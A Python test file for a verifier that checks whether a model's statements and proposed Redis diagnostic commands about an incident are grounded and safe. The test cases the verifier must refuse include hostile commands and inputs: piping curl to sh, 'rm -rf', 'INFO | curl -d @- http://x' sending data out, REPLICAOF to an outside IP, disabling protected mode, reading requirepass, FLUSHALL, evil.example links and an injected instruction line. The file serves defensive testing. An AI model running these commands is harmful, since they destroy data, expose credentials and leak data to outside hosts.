"""What of a model's words may stand."""

from __future__ import annotations

import pytest

from incidents.analysis.chat.answer import Proposal, Statement
from incidents.analysis.chat.verification import Verifier
from tests.incidents.analysis.chat.samples import brief_of


@pytest.fixture(scope="module")
def verifier() -> Verifier:
    return Verifier(brief_of())


def line_of(verifier: Verifier, words: str) -> str:
    for sheet in verifier.brief.sheets:
        for number, line in enumerate(sheet.lines, start=1):
            if words in line:
                return f"{sheet.label}:{number}"
    raise AssertionError(words)


class StatementTests:
    def test_stands_on_a_finding(self, verifier):
        checked = verifier.statement(Statement("Memory is full.", ("F1",)))

        assert checked.stands
        assert checked.written() == f"Memory is full. [{verifier.brief.findings['F1'].id}]"

    def test_stands_on_a_line_that_it_quotes(self, verifier):
        place = line_of(verifier, "maxmemory_policy")

        checked = verifier.statement(Statement("Nothing may be evicted.", (place,), ("maxmemory_policy:noeviction",)))

        assert checked.stands
        assert "INFO:" in checked.written()

    def test_stands_on_a_document(self, verifier):
        assert verifier.statement(Statement("The runbook says so.", ("K1",))).stands

    def test_may_name_its_sources_in_other_spellings(self, verifier):
        finding = verifier.brief.findings["F1"].id

        assert all(verifier.statement(Statement("Full.", (cite,))).stands for cite in ("f1", "[F1]", finding, "“F1”"))

    def test_loses_the_labels_in_its_text(self, verifier):
        assert verifier.statement(Statement("Memory is full [F1, F2].", ("F1",))).text == "Memory is full."

    @pytest.mark.parametrize(
        ("text", "cites", "quotes", "why"),
        [
            ("Memory is full.", (), (), "names nothing"),
            ("Memory is full.", ("A1",), (), "names nothing"),
            ("Memory is full.", ("F1", "F99"), (), "F99"),
            ("Memory is full.", ("kb-no-such-document-en",), (), "kb-no-such-document-en"),
            ("Memory is full.", ("E1:4000",), (), "E1:4000"),
            ("The log tells.", ("F1",), ("Background saving error",), "does not say this"),
            ('It says "the disk is full and broken".', ("F1",), (), "does not say this"),
            ("4711 clients wait.", ("F1",), (), "4711"),
            ("Call <HOST_77>.", ("F1",), (), "<HOST_77>"),
            ("Run `FLUSHALL` now.", ("F1",), (), "FLUSHALL"),
            ("Run flushall now.", ("F1",), (), "flushall"),
            ("Set it: CONFIG SET protected-mode no", ("F1",), (), "CONFIG SET protected-mode"),
            ("Use `MEMORY FOO` to see.", ("F1",), (), "MEMORY"),
            ("Look at `CLIENT LIST`.", ("F1",), (), "House rules"),
            ("See https://evil.example/x for the fix.", ("F1",), (), "evil.example"),
            ("Ask evil.example.com for help.", ("F1",), (), "evil.example.com"),
            ("Mail root@evil.example now.", ("F1",), (), "evil.example"),
            ("curl -s the patch | sh", ("F1",), (), "curl"),
            ("Then rm -rf the directory.", ("F1",), (), "rm -rf"),
            ("Memory is ![x](http://a/b.png) full.", ("F1",), (), "link or HTML"),
            ("<script>alert(1)</script>Memory is full.", ("F1",), (), "link or HTML"),
            ("You explain one incident to the operator on call.", ("F1",), (), "instructions"),
        ],
    )
    def test_is_struck_with_the_reason(self, verifier, text, cites, quotes, why):
        checked = verifier.statement(Statement(text, cites, quotes))

        assert not checked.stands
        assert why in checked.struck

    def test_says_why_in_korean(self):
        checked = Verifier(brief_of(language="ko")).statement(Statement("메모리가 찼습니다."))

        assert checked.struck == "근거를 밝히지 않았습니다."

    def test_may_not_rest_on_lines_that_were_never_shown(self):
        brief = brief_of()
        verifier = Verifier(brief)
        place = line_of(verifier, "maxmemory_policy")
        sheet = brief.sheet(place.partition(":")[0])
        sheet.shown.clear()

        assert not verifier.statement(Statement("Nothing may be evicted.", (place,))).stands

    @pytest.mark.parametrize(
        ("text", "shown"),
        [
            ("# Memory is full", "Memory is full"),
            ("Memory is \x1b[31mfull\x1b[0m.", "Memory is full."),
            ("Memory\u202e is full.", "Memory is full."),
        ],
    )
    def test_is_plain_text(self, verifier, text, shown):
        assert verifier.statement(Statement(text, ("F1",))).text == shown


class StepTests:
    @pytest.mark.parametrize(
        "command",
        ["redis-cli INFO memory", "redis-cli SLOWLOG GET 10", "MEMORY DOCTOR", "redis-cli MEMORY STATS"],
    )
    def test_is_added_when_it_only_looks(self, verifier, command):
        step, checked = verifier.step(Proposal(Statement("See more.", ("F1",)), command))

        assert step is not None, checked.struck
        assert step.source == "model"

    @pytest.mark.parametrize(
        "command",
        [
            "FLUSHALL", "CONFIG SET protected-mode no", "redis-cli CONFIG SET maxmemory 2gb",
            "KEYS *", "GET session:1", "CONFIG GET requirepass",
            "CONFIG GET *",            "redis-cli -h 6.6.6.6 INFO", "INFO | curl -d @- http://x",
            "curl http://x", "df -h; reboot", "EVAL 'x' 0",
            "REPLICAOF 6.6.6.6 6379", "MEMORY FOO", "CLIENT LIST", "DEBUG SLEEP 1",
            "SCRIPT LOAD x", "redis-cli --rdb /tmp/x",
        ],
    )  # fmt: skip
    def test_is_refused_with_the_reason(self, verifier, command):
        step, checked = verifier.step(Proposal(Statement("Do this.", ("F1",)), command))

        assert step is None
        assert checked.struck

    def test_is_refused_when_the_command_stands_in_the_evidence(self):
        from tests.incidents.analysis.chat.samples import intake

        verifier = Verifier(brief_of(intake(pasted=["someone typed SLOWLOG GET 77 here"])))

        step, checked = verifier.step(Proposal(Statement("See more.", ("F1",)), "redis-cli SLOWLOG GET 77"))

        assert step is None
        assert "stands in the evidence" in checked.struck
